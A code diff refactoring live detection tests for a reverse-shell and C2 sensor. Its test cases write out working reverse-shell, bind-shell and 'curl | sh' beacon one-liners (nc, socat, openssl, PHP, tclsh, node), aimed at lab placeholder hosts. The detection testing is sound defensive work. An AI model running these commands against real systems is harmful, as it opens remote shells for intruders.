@@ -5,8 +5,6 @@ bounded by a timeout, and each benign test first proves the sensor saw its exec 
 
 from __future__ import annotations
 
-import itertools
-import json
 import os
 import shlex
 import shutil
@@ -14,44 +12,23 @@ import subprocess
 import sys
 import tempfile
 import time
-import uuid
 
 import pytest
-from corpus import record_case
 
-from agent.events import Connect, Exec
+from agent.events import Connect
+from tests.helpers.alerts import incidents, mine, tagged
+from tests.helpers.live import require_tools, skip_or_fail
+from tests.helpers.polling import wait_until
+from tests.helpers.proof import assert_sensor_saw
+from tests.live.corpus import record_case
 
-pytestmark = pytest.mark.live
-
-_ports = itertools.count(46000 + os.getpid() % 500 * 8)
 PAYLOAD = b"echo cw-$((6*7))\nexit\n"
 C2 = {"reverse_shell", "bind_shell", "stdio_to_socket", "c2_beacon", "interpreter_reverse_shell", "tunnel_tool",
       "irc_connection"}
 
 
-def need(*tools: str) -> None:
-    missing = [t for t in tools if shutil.which(t) is None]
-    if missing:
-        from conftest import skip_or_fail
-        skip_or_fail(f"missing tools {missing} (make setup installs them)")
-
-
-def incidents(alerts: list[dict]) -> dict[str, list[dict]]:
-    out: dict[str, list[dict]] = {}
-    for a in alerts:
-        out.setdefault(a["chainwatch"]["incident"]["id"], []).append(a)
-    return out
-
-
 def c2_alerts(alerts: list[dict]) -> list[dict]:
     return [a for a in alerts if C2 & set(a["chainwatch"]["signals"])]
-
-
-def tagged(command: str) -> tuple[str, str]:
-    """``command`` with a unique marker comment: the sensor is host-wide, so a test looks only at alerts
-    whose process or ancestry carries its marker (the bash -c argv is in every descendant's ancestry)."""
-    token = f"cw-test-{uuid.uuid4().hex[:12]}"
-    return f"{command} # {token}", token
 
 
 CONTEXTS = ["plain", "ci"]
@@ -83,15 +60,11 @@ def case_name() -> str:
     return "".join(c if c.isalnum() or c in "-_" else "_" for c in name).strip("_")
 
 
-def mine(alerts: list[dict], token: str) -> list[dict]:
-    return [a for a in alerts if token in json.dumps([a["process"].get("args"), a["chainwatch"]["ancestry"]])]
-
-
 def reverse(sensorlab, netlab, command: str, *, family: int = 4, signal: str = "reverse_shell",
             payload: bytes = PAYLOAD, expect: bytes = b"cw-42", timeout: float = 15, context: str = "plain",
             replay_signal: str | None = None) -> dict:
     """Run ``command`` ({host}, {port}) in the victim against a listener; one incident, right destination."""
-    port = next(_ports)
+    port = netlab.port()
     host = netlab.attacker_ip6 if family == 6 else netlab.attacker_ip4
     listener = netlab.listen_tcp(netlab.attacker_ns, port, family=family, payload=payload, duration=timeout)
     mark, emark = sensorlab.alert_mark(), sensorlab.mark()
@@ -122,14 +95,14 @@ def _fifo(tmp_path) -> str:
 @pytest.mark.parametrize("ctx", CONTEXTS)
 def test_mkfifo_sh_openbsd_nc(sensorlab, netlab, tmp_path, ctx) -> None:
     """`mkfifo; cat f | sh -i | nc H P > f` with OpenBSD nc: one reverse-shell incident naming nc's peer."""
-    need("nc.openbsd")
+    require_tools("nc.openbsd")
     reverse(sensorlab, netlab, FIFO_RELAY.format(f=_fifo(tmp_path)).replace("nc ", "nc.openbsd -q 1 ", 1), context=ctx)
 
 
 @pytest.mark.parametrize("ctx", CONTEXTS)
 def test_mknod_fifo_relay_ipv6(sensorlab, netlab, tmp_path, ctx) -> None:
     """The same relay made with `mknod p`, over IPv6."""
-    need("nc.openbsd")
+    require_tools("nc.openbsd")
     f = _fifo(tmp_path)
     reverse(sensorlab, netlab, f"rm -f {f}; mknod {f} p; cat {f} | /bin/sh -i 2>&1 | nc.openbsd -q 1 {{host}} "
             f"{{port}} > {f}", family=6, context=ctx)
@@ -138,7 +111,7 @@ def test_mknod_fifo_relay_ipv6(sensorlab, netlab, tmp_path, ctx) -> None:
 @pytest.mark.parametrize("ctx", CONTEXTS)
 def test_busybox_nc_fifo_relay(sensorlab, netlab, tmp_path, ctx) -> None:
     """busybox nc with a FIFO."""
-    need("busybox")
+    require_tools("busybox")
     f = _fifo(tmp_path)
     reverse(sensorlab, netlab, f"rm -f {f}; mkfifo {f}; cat {f} | /bin/sh -i 2>&1 | busybox nc {{host}} {{port}} > {f}",
             context=ctx)
@@ -147,14 +120,14 @@ def test_busybox_nc_fifo_relay(sensorlab, netlab, tmp_path, ctx) -> None:
 @pytest.mark.parametrize("ctx", CONTEXTS)
 def test_socat_pty_exec(sensorlab, netlab, ctx) -> None:
     """socat exec:'bash -li',pty,stderr,setsid: bash on a pty whose master socat holds."""
-    need("socat")
+    require_tools("socat")
     reverse(sensorlab, netlab, "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{host}:{port}", context=ctx)
 
 
 @pytest.mark.parametrize("ctx", CONTEXTS)
 def test_fifo_on_shell_stdin_relay(sensorlab, netlab, tmp_path, ctx) -> None:
     """`sh -i < f 2>&1 | nc H P > f`: the FIFO on the shell's own stdin, written by nc."""
-    need("nc.openbsd")
+    require_tools("nc.openbsd")
     f = _fifo(tmp_path)
     reverse(sensorlab, netlab, f"rm -f {f}; mkfifo {f}; /bin/sh -i < {f} 2>&1 | nc.openbsd -q 1 {{host}} {{port}} "
             f"> {f}", context=ctx)
@@ -163,12 +136,12 @@ def test_fifo_on_shell_stdin_relay(sensorlab, netlab, tmp_path, ctx) -> None:
 @pytest.mark.parametrize("ctx", CONTEXTS)
 def test_openssl_s_client_fifo_relay(sensorlab, netlab, tmp_path, ctx) -> None:
     """`sh -i < f 2>&1 | openssl s_client -quiet -connect H:P > f` against a TLS attacker (openssl s_server)."""
-    need("openssl")
+    require_tools("openssl")
     key, cert = tmp_path / "key.pem", tmp_path / "cert.pem"
     subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes",
                     "-subj", "/CN=lab", "-days", "1", "-keyout", str(key), "-out", str(cert)], check=True,
                    capture_output=True, timeout=30)
-    port = next(_ports)
+    port = netlab.port()
     host = netlab.attacker_ip4
     server = netlab.spawn(netlab.attacker_ns, ["timeout", "20", "openssl", "s_server", "-quiet", "-key", str(key),
                                                "-cert", str(cert), "-accept", f"{host}:{port}"],
@@ -183,12 +156,13 @@ def test_openssl_s_client_fifo_relay(sensorlab, netlab, tmp_path, ctx) -> None:
     assert server.stdin is not None and server.stdout is not None
     server.stdin.write(b"echo cw-$((6*7))\nsleep 1\nexit\n")
     server.stdin.flush()
-    got = b""
-    deadline = time.monotonic() + 15
+    got = bytearray()
     os.set_blocking(server.stdout.fileno(), False)
-    while b"cw-42" not in got and time.monotonic() < deadline:
-        time.sleep(0.2)
-        got += server.stdout.read() or b""
+
+    def answered() -> bool:
+        got.extend(server.stdout.read() or b"")
+        return b"cw-42" in got
+    wait_until(answered, timeout=15, interval=0.2)
     assert b"cw-42" in got, got
     groups = incidents(c2_alerts(mine(sensorlab.alerts_since(mark, settle=1.5), token)))
     assert len(groups) == 1
@@ -208,10 +182,10 @@ ONE_SHOT = ("import socket,sys,time\ns=socket.socket();s.setsockopt(socket.SOL_S
 @pytest.mark.parametrize("ctx", CONTEXTS)
 def test_telnet_pair(sensorlab, netlab, ctx) -> None:
     """`telnet H P1 | sh | telnet H P2`: commands from one connection, output to the other."""
-    need("telnet")
-    out_port = next(_ports)
+    require_tools("telnet")
+    out_port = netlab.port()
     sink = netlab.listen_tcp(netlab.attacker_ns, out_port, duration=15)
-    port = next(_ports)
+    port = netlab.port()
     host = netlab.attacker_ip4
     # `sleep` keeps sh (and so the second telnet's stdin) open long enough for it to send the answer: netkit
     # telnet quits at EOF on its stdin without flushing what it has not sent yet.
@@ -240,14 +214,14 @@ NODE = ("node -e '(function(){{var net=require(\"net\"),cp=require(\"child_proce
 @pytest.mark.parametrize("ctx", CONTEXTS)
 def test_node_net_child_process(sensorlab, netlab, ctx) -> None:
     """node net.Socket piped into child_process.spawn('/bin/sh') (socketpairs between them)."""
-    need("node")
+    require_tools("node")
     reverse(sensorlab, netlab, NODE, context=ctx)
 
 
 @pytest.mark.parametrize("ctx", CONTEXTS)
 def test_php_shell_exec_loop(sensorlab, netlab, ctx) -> None:
     """A PHP loop reading commands from a socket and answering with shell_exec: one alert for the loop."""
-    need("php")
+    require_tools("php")
     code = ('$s=fsockopen("{host}",{port});while(($c=fgets($s))!==false){{if(trim($c)=="exit")break;'
             'fwrite($s,shell_exec($c));}}')
     alert = reverse(sensorlab, netlab, f"php -r '{code}'", context=ctx)
@@ -257,7 +231,7 @@ def test_php_shell_exec_loop(sensorlab, netlab, ctx) -> None:
 @pytest.mark.parametrize("ctx", CONTEXTS)
 def test_tclsh_socket_loop(sensorlab, netlab, ctx) -> None:
     """A tclsh socket loop that execs each command it reads (fed its script on stdin)."""
-    need("tclsh")
+    require_tools("tclsh")
     script = ('set s [socket {host} {port}];while {{[gets $s c] >= 0}} {{if {{$c eq "exit"}} break;'
               'catch {{exec sh -c $c}} r;puts $s $r;flush $s}};close $s')
     reverse(sensorlab, netlab, f"echo '{script}' | tclsh", context=ctx)
@@ -266,7 +240,7 @@ def test_tclsh_socket_loop(sensorlab, netlab, ctx) -> None:
 @pytest.mark.parametrize("ctx", CONTEXTS)
 def test_python_pty_relay_through_nc(sensorlab, netlab, tmp_path, ctx) -> None:
     """python pty.spawn behind a FIFO relay to nc: sh on a pty whose master python holds."""
-    need("nc.openbsd")
+    require_tools("nc.openbsd")
     f = _fifo(tmp_path)
     reverse(sensorlab, netlab, f"rm -f {f}; mkfifo {f}; cat {f} | python3 -c 'import pty; pty.spawn(\"/bin/sh\")' "
             f"2>&1 | nc.openbsd -q 1 {{host}} {{port}} > {f}", context=ctx)
@@ -274,7 +248,7 @@ def test_python_pty_relay_through_nc(sensorlab, netlab, tmp_path, ctx) -> None:
 
 def test_relay_inside_npm_context(sensorlab, netlab, tmp_path) -> None:
     """The mkfifo relay started under an npm install root is one incident in its context, at least high."""
-    need("nc.openbsd", "npm")
+    require_tools("nc.openbsd", "npm")
     f = _fifo(tmp_path)
     # A process whose exec the context rules recognise as `npm install`: a shell script named npm.
     npm = tmp_path / "npm"
@@ -310,20 +284,18 @@ sys.stdout.buffer.write(got)
 
 def bind(sensorlab, netlab, command: str, *, family: int = 4, timeout: float = 15, context: str = "plain") -> dict:
     """Start a bind shell ({port}) in the victim; the attacker connects and runs the payload."""
-    port = next(_ports)
+    port = netlab.port()
     victim = netlab.victim_ip6 if family == 6 else netlab.victim_ip4
     mark, emark = sensorlab.alert_mark(), sensorlab.mark()
     command, token = tagged(command.format(port=port))
     netlab.spawn(netlab.victim_ns, ["timeout", str(timeout), "bash", "-c", in_context(command, context)],
                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-    deadline = time.monotonic() + timeout
-    got = b""
-    while time.monotonic() < deadline and b"cw-42" not in got:
+
+    def attacker_session() -> bytes:
         res = netlab.run(netlab.attacker_ns, [sys.executable, "-c", ATTACKER_CLIENT, victim, str(port), PAYLOAD.hex()],
                          timeout=10)
-        got = res.stdout or b""
-        if b"cw-42" not in got:
-            time.sleep(0.3)
+        return res.stdout if b"cw-42" in (res.stdout or b"") else b""
+    got = wait_until(attacker_session, timeout=timeout, interval=0.3)
     assert b"cw-42" in got
     alerts = mine(sensorlab.alerts_since(mark, settle=1.5), token)
     record_case(sensorlab, case_name(), emark, token, {"signal": "bind_shell", "port": port})
@@ -343,14 +315,14 @@ def bind(sensorlab, netlab, command: str, *, family: int = 4, timeout: float = 1
 @pytest.mark.parametrize("ctx", CONTEXTS)
 def test_bind_nc_traditional(sensorlab, netlab, ctx) -> None:
     """nc.traditional -l -p P -e /bin/sh."""
-    need("nc.traditional")
+    require_tools("nc.traditional")
     bind(sensorlab, netlab, "nc.traditional -l -p {port} -e /bin/sh", context=ctx)
 
 
 @pytest.mark.parametrize("ctx", CONTEXTS)
 def test_bind_socat(sensorlab, netlab, ctx) -> None:
     """socat TCP-LISTEN EXEC:/bin/sh (a socketpair between socat and sh)."""
-    need("socat")
+    require_tools("socat")
     bind(sensorlab, netlab, "socat TCP-LISTEN:{port},reuseaddr EXEC:/bin/sh", context=ctx)
 
 
@@ -375,14 +347,14 @@ def test_bind_perl(sensorlab, netlab, ctx) -> None:
 @pytest.mark.parametrize("ctx", CONTEXTS)
 def test_bind_busybox_nc(sensorlab, netlab, ctx) -> None:
     """busybox nc -l -p P -e /bin/sh."""
-    need("busybox")
+    require_tools("busybox")
     bind(sensorlab, netlab, "busybox nc -l -p {port} -e /bin/sh", context=ctx)
 
 
 @pytest.mark.parametrize("ctx", CONTEXTS)
 def test_bind_ncat_ipv6(sensorlab, netlab, ctx) -> None:
     """ncat -6 -l -e /bin/sh over IPv6."""
-    need("ncat")
+    require_tools("ncat")
     bind(sensorlab, netlab, "ncat -6 -l -p {port} -e /bin/sh", family=6, context=ctx)
 
 
@@ -390,11 +362,12 @@ def test_bind_ncat_ipv6(sensorlab, netlab, ctx) -> None:
 
 def test_curl_polling_beacon(sensorlab, netlab) -> None:
     """`while :; do curl -s http://H:P/c | sh; sleep 1; done` gives one C2 beacon alert with the destination."""
-    need("curl")
-    port = next(_ports)
+    require_tools("curl")
+    port = netlab.port()
     www = netlab.spawn(netlab.attacker_ns, [sys.executable, "-c", (
         "import http.server as h\nclass H(h.BaseHTTPRequestHandler):\n def do_GET(s):\n"
-        "  b=b'echo cw-beacon\\n';s.send_response(200);s.send_header('Content-Length',str(len(b)));s.end_headers();"
+        "  b=b'echo cw-beacon\\n';s.send_response(200);"
+        "s.send_header('Content-Length',str(len(b)));s.end_headers();"
         "s.wfile.write(b)\n def log_message(s,*a): pass\n"
         f"h.HTTPServer(('{netlab.attacker_ip4}',{port}),H).serve_forever()")])
     time.sleep(0.8)
@@ -416,7 +389,7 @@ def test_curl_polling_beacon(sensorlab, netlab) -> None:
 def benign(sensorlab, netlab, command: str, *, exe: str, port: int | None = None, server: list[str] | None = None,
            ns: str | None = None, timeout: float = 15, context: str = "plain") -> list[dict]:
     """Run ``command`` in the victim; prove the sensor saw ``exe`` exec and connect to the lab; return alerts."""
-    port = port or next(_ports)
+    port = port or netlab.port()
     if server is not None:
         netlab.spawn(netlab.attacker_ns, [a.format(port=port, host=netlab.attacker_ip4) for a in server])
         time.sleep(0.8)
@@ -426,11 +399,7 @@ def benign(sensorlab, netlab, command: str, *, exe: str, port: int | None = None
     command, token = tagged(command.format(host=netlab.attacker_ip4, port=port))
     netlab.run(ns or netlab.victim_ns, ["timeout", str(timeout), "bash", "-c", in_context(command, context)],
                timeout=timeout + 5)
-    seen_exec = sensorlab.wait_for(lambda e: isinstance(e, Exec) and os.path.basename(e.filename) == exe,
-                                   since=mark, timeout=10)
-    seen_connect = sensorlab.wait_for(lambda e: isinstance(e, Connect) and e.dport == port, since=mark, timeout=10)
-    assert seen_exec, f"the sensor never saw {exe} exec"
-    assert seen_connect, f"the sensor never saw the connect to port {port}"
+    assert_sensor_saw(sensorlab, mark, exe=exe, port=port)
     alerts = mine(sensorlab.alerts_since(amark, settle=1.0), token)
     record_case(sensorlab, case_name(), mark, token, {"quiet": True})
     return alerts
@@ -447,7 +416,7 @@ def quiet(alerts: list[dict]) -> None:
 
 def test_benign_busybox_wget(sensorlab, netlab) -> None:
     """`busybox wget` is wget, not a shell (Debian's busybox 1.35 wget crashes with -T: timeout bounds it)."""
-    need("busybox")
+    require_tools("busybox")
     quiet(benign(sensorlab, netlab, "timeout 5 busybox wget -q -O /dev/null http://{host}:{port}/; true",
                  exe="busybox", server=[sys.executable, "-m", "http.server", "--bind", "{host}", "{port}"]))
 
@@ -460,7 +429,7 @@ def test_benign_openssl_certificate_check_pipe(sensorlab, netlab) -> None:
 
 def test_benign_telnet_banner(sensorlab, netlab, tmp_path) -> None:
     """`(echo QUIT) | telnet H 25 > banner.txt`."""
-    need("telnet")
+    require_tools("telnet")
     quiet(benign(sensorlab, netlab, f"(echo QUIT; sleep 1) | telnet {{host}} {{port}} > {tmp_path}/banner.txt 2>&1; "
                  "true", exe="telnet"))
 
@@ -493,7 +462,7 @@ def test_benign_local_mkfifo_pipeline(sensorlab, netlab, tmp_path) -> None:
 
 def test_benign_script_and_tmux(sensorlab, netlab) -> None:
     """`script -qc` and a tmux session running a command that connects out: nothing."""
-    need("script", "tmux")
+    require_tools("script", "tmux")
     sock = f"/tmp/cw-tmux-{os.getpid()}"
     quiet(benign(sensorlab, netlab, "script -qc 'curl -s -m 3 -o /dev/null http://{host}:{port}/' /dev/null; "
                  f"tmux -S {sock} new-session -d 'curl -s -m 3 -o /dev/null http://{{host}}:{{port}}/'; sleep 2; "
@@ -517,12 +486,11 @@ PermitRootLogin prohibit-password
 def test_benign_inbound_ssh_login_with_pty_and_outbound_ssh_tt(sensorlab, netlab, tmp_path) -> None:
     """A real sshd the test starts in the victim namespace with its own config; the attacker namespace logs in
     with a pty (`ssh -tt`): sshd re-executes with the connection on stdio and gives the shell a pty. Nothing."""
-    need("ssh", "ssh-keygen")
+    require_tools("ssh", "ssh-keygen")
     sshd = "/usr/sbin/sshd"
     if not os.path.exists(sshd):
-        from conftest import skip_or_fail
         skip_or_fail("openssh-server is not installed (make setup installs it)")
-    port = next(_ports)
+    port = netlab.port()
     d = tmp_path
     subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(d / "host_ed25519")], check=True,
                    timeout=30)
@@ -539,8 +507,7 @@ def test_benign_inbound_ssh_login_with_pty_and_outbound_ssh_tt(sensorlab, netlab
                                           "-o", "BatchMode=yes", f"root@{netlab.victim_ip4}",
                                           "echo cw-$((6*7)); exit"], timeout=30)
     assert b"cw-42" in (res.stdout or b""), res
-    assert sensorlab.wait_for(lambda e: isinstance(e, Exec) and e.filename.endswith("sshd"), since=mark)
-    assert sensorlab.wait_for(lambda e: isinstance(e, Connect) and e.dport == port, since=mark)
+    assert_sensor_saw(sensorlab, mark, exe="sshd", port=port)
     quiet(sensorlab.alerts_since(amark, settle=1.5))
 
 
@@ -561,7 +528,7 @@ MEMFD_SOCAT = ("import os,sys;fd=os.memfd_create('svc');os.write(fd,open('/usr/b
 
 def test_memfd_socat_is_socat_and_fileless(sensorlab, netlab) -> None:
     """socat run from a memfd under another name: a tunnel tool by its content, and a fileless exec."""
-    need("socat")
+    require_tools("socat")
     # The content is read from /proc/PID/exe while the process runs: the attacker's session lasts a moment.
     # Replay has no /proc to read the content from: there the relay through socat's socketpair is the verdict.
     alert = reverse(sensorlab, netlab, f"python3 -c \"{MEMFD_SOCAT}\"", signal="tunnel_tool",
@@ -578,7 +545,7 @@ UDP_SHELL = ("import socket,subprocess;s=socket.socket(socket.AF_INET,socket.SOC
 
 def test_udp_shell_with_sendto_only(sensorlab, netlab) -> None:
     """A UDP shell that never connects (sendto/recvfrom) alerts with its destination."""
-    port = next(_ports)
+    port = netlab.port()
     host = netlab.attacker_ip4
     listener = netlab.listen_udp(netlab.attacker_ns, port, payload=b"echo cw-$((6*7))", duration=12,
                                  max_datagrams=2)
@@ -624,7 +591,7 @@ print(" ".join(peers))
 def test_racing_sockaddr_rewrite_does_not_change_the_destination(sensorlab, netlab) -> None:
     """A thread rewriting the sockaddr while connect runs: every reported destination is the socket's real peer."""
     host = netlab.attacker_ip4
-    port, decoy_port = next(_ports), next(_ports)
+    port, decoy_port = netlab.port(), netlab.port()
     netlab.listen_tcp(netlab.attacker_ns, port, duration=20, max_conns=40)
     netlab.listen_tcp(netlab.attacker_ns, decoy_port, duration=20, max_conns=40)
     mark = sensorlab.mark()
